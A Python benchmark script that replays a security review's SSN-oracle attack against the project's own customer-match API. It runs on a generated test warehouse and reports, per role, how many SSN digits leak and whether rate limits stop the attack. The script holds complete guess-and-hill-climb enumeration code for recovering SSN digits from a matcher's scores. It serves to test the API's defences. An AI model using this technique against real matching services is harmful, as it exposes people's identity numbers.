"""The SSN oracle of the security review, replayed against `POST /customers/match` with each role's key.

The attacker knows a customer's name, birth date and the last four SSN digits (from a reader's masked 360) and
guesses the first five. The review's script read which comparison level the SSN reached ("Exact match",
"Damerau-Levenshtein <= 1", "All other"): random guesses until one lands one edit away from the truth (about 1 in
2,000), then a digit at a time. Here the same attack reads every signal the answer gives: the status, the match_id,
the candidates, the probability and the per-field levels. It stops at the truth, at `--budget` requests, or when
the API refuses (403, or 429 once a key's quota is spent). Prints, per role: requests sent, answers by status, how
many distinct answers the guesses produced (1: the answer does not depend on the guess), the first five digits
learned.

    python benchmarks/ssn_oracle.py [--budget 6000] [--seed 0] [--no-quota]

With the default settings the match quota (10 requests/s, bursts of 50) ends each attack early; `--no-quota` raises
it to show what the answers themselves leak.
"""

from __future__ import annotations

import argparse
import random
import sys
import tempfile
from collections import Counter
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
LOAD_LIMITS = REPO / "benchmarks" / "load_limits.yaml"
sys.path.insert(0, str(REPO))

KEYS = {"r-key-000000": "reader", "w-key-000000": "writer", "p-key-000000": "pii"}
TARGET = {"first_name": "Maria", "last_name": "Lopez", "date_of_birth": "1980-04-02", "company": "Acme"}
TRUE_SSN, LAST4 = "123456789", "6789"


def build_warehouse(root: Path) -> Path:
    """A published run with the API tests' customers and a Splink model trained on 300 generated people."""
    from c360.entity_resolution.generate import generate
    from c360.entity_resolution.match import match
    from c360.graph.export import customers_from_sources, load_sources
    from c360.layout import MatchOutput
    from c360.recsys.data import load_sigir17
    from c360.recsys.models import train
    from tests.api.conftest import publish, write_run

    d = root / "er"
    generate(300, seed=3, out_dir=d)
    customers_from_sources(load_sources(d)).to_parquet(d / "merged.parquet", index=False)
    match([d / "merged.parquet"], engine="duckdb", out=d / "matched.parquet")
    interactions, items = load_sigir17(engine="pandas", parks=["epcot"])
    models = {"popularity": train("popularity", interactions, items, show_progress=False)}
    wh = root / "warehouse"
    publish(wh, write_run(wh, "oracle-1", (models, items, interactions), served="popularity",
                          match_model=MatchOutput(d / "matched.parquet")))
    return wh


def fingerprint(r) -> tuple:
    """Everything an answer says that could depend on the SSN guessed."""
    if r.status_code != 200:
        return (r.status_code,)
    body = r.json()
    levels = tuple(sorted((c["comparison"], c["level"]) for c in body["explanation"]["comparisons"]))
    return (200, body["match_id"], round(body["match_probability"], 12),
            tuple((c["match_id"], round(c["match_probability"], 12)) for c in body["candidates"]), levels)


def signal(r) -> float:
    """How close the answer says the guess is: the SSN's level if shown, else the probability."""
    if r.status_code != 200:
        return float("-inf")
    body = r.json()
    for c in body["explanation"]["comparisons"]:
        if c["comparison"] == "ssn":
            return 2.0 if c["level"].startswith("Exact") else 1.0 if "<= 1" in c["level"] else 0.0
    return body["match_probability"]


def attack(client, key: str, budget: int, rng: random.Random) -> dict:
    sent, statuses, answers = 0, Counter(), set()

    def ask(first5: str):
        nonlocal sent
        sent += 1
        ssn = f"{first5[:3]}-{first5[3:]}-{LAST4}"
        r = client.post("/customers/match", json={**TARGET, "ssn": ssn}, headers={"X-API-Key": key})
        statuses[r.status_code] += 1
        answers.add(fingerprint(r))
        return r

    # 1. random guesses until one scores above the rest (a guess one edit away, or the truth)
    base = signal(ask(f"{rng.randrange(10**5):05d}"))
    best, best_guess = base, None
    while sent < budget and best_guess is None:
        guess = f"{rng.randrange(10**5):05d}"
        r = ask(guess)
        if r.status_code in (403, 429):
            break
        s = signal(r)
        if s > best:
            best, best_guess = s, guess
    # 2. a digit at a time from there
    guess = best_guess
    while guess is not None and sent < budget:
        improved = False
        for pos in range(5):
            for d in "0123456789":
                trial = guess[:pos] + d + guess[pos + 1:]
                if trial == guess or sent >= budget:
                    continue
                r = ask(trial)
                if r.status_code in (403, 429):
                    break
                s = signal(r)
                if s > best:
                    best, guess, improved = s, trial, True
        if not improved:
            break
    learned = sum(a == b for a, b in zip(guess or "", TRUE_SSN[:5], strict=False)) if guess else 0
    return {"sent": sent, "statuses": dict(statuses), "distinct": len(answers),
            "learned": learned, "found": guess == TRUE_SSN[:5]}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--budget", type=int, default=6000, help="requests per role at most")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--no-quota", action="store_true",
                    help="per-key rate limits raised (load_limits.yaml): what the answers leak, quotas aside")
    args = ap.parse_args()
    from fastapi.testclient import TestClient

    from c360.api.app import create_app
    from c360.settings import load_settings

    with tempfile.TemporaryDirectory() as tmp:
        wh = build_warehouse(Path(tmp))
        print("| role | requests | answers by status | distinct answers | first-five digits learned | SSN found |")
        print("| --- | --- | --- | --- | --- | --- |")
        for key, role in KEYS.items():
            settings = load_settings(LOAD_LIMITS if args.no_quota else None,
                                     overrides={"warehouse": str(wh), "api_keys": dict(KEYS)})
            with TestClient(create_app(settings, reload_interval=60)) as c:
                res = attack(c, key, args.budget, random.Random(args.seed))
            statuses = ", ".join(f"{s}: {n}" for s, n in sorted(res["statuses"].items()))
            learned = "5 (sees it in clear anyway)" if role == "pii" and res["found"] else res["learned"]
            print(f"| {role} | {res['sent']} | {statuses} | {res['distinct']} | {learned} | {res['found']} |")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
